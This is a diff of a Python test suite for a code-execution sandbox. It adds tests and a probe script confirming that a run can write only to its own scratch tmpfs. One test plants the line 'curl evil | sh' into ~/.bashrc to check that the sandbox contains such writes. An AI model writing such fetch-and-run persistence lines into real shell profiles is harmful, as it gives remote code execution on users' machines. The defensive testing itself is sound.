@@ -142,11 +142,11 @@ async def test_writes_outside_the_work_directory_stay_in_the_sandbox(sandbox: Sa
             import os, pytest
 
             def test_writes():
-                open("/tmp/x", "w").write("x")
                 with open(os.path.expanduser("~/.bashrc"), "a") as fh:
                     fh.write("curl evil | sh")
-                with pytest.raises(OSError, match="Read-only file system"):
-                    open("../../x", "w")
+                for target in ("/tmp/x", "../../x", "/dev/shm/x"):
+                    with pytest.raises(OSError, match="Read-only file system|Permission denied"):
+                        open(target, "w")
                 for target in ("/usr/x", "/sandbox/source/x", "/x"):
                     with pytest.raises(OSError):
                         open(target, "w")
@@ -154,6 +154,46 @@ async def test_writes_outside_the_work_directory_stay_in_the_sandbox(sandbox: Sa
     )
 
     assert (result.passed, result.failed, result.errors) == (1, 0, 0), result.failures
+
+
+PROBE = """
+import os
+places = {line.split()[4] for line in open("/proc/self/mountinfo")}
+places |= {"/", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/root", "/run", "/etc", "/usr"}
+places |= {os.environ["HOME"], os.environ["TMPDIR"], os.getcwd()}
+writable = []
+for place in sorted(places):
+    try:
+        with open(os.path.join(place, ".kiln-probe"), "w") as fh:
+            fh.write("x")
+    except OSError:
+        continue
+    writable.append(place)
+print(" ".join(writable))
+"""
+
+
+def _probe_project(folder: Path) -> Path:
+    """A project of one script, readable by the run's uid (as the verifier leaves one)."""
+    (folder / "probe.py").write_text(PROBE)
+    folder.chmod(0o755)
+    (folder / "probe.py").chmod(0o644)
+    return folder
+
+
+@pytest.mark.parametrize("writable", [False, True], ids=["read-only run", "run that writes"])
+async def test_only_the_runs_own_tmpfs_is_writable(
+    sandbox: Sandbox, writable: bool, tmp_path: Path
+) -> None:
+    """A run may write in one place only, the scratch tmpfs holding its copy of the project
+    and its temporary directory and home; a read-only run (compile, lint) nowhere."""
+    ran = await sandbox.run(
+        [str(sandbox.runtime.python), "probe.py"], _probe_project(tmp_path), writable=writable
+    )
+
+    assert ran.exit_code == 0, ran.stderr
+    expected = "/sandbox /sandbox/project /sandbox/tmp" if writable else ""
+    assert ran.stdout.strip() == expected
 
 
 async def test_200_mb_of_output_is_capped(sandbox: Sandbox) -> None:
@@ -282,8 +322,10 @@ async def test_writing_past_the_file_size_limit_is_too_large(sandbox: Sandbox) -
     result = await run(
         sandbox,
         project(f"""
+            import tempfile
+
             def test_grow():
-                for path in ("/tmp/big", "big"):
+                for path in (tempfile.gettempdir() + "/big", "big"):
                     with open(path, "wb") as fh:
                         fh.seek({limit} - 1)
                         fh.write(b"x")  # the last byte allowed
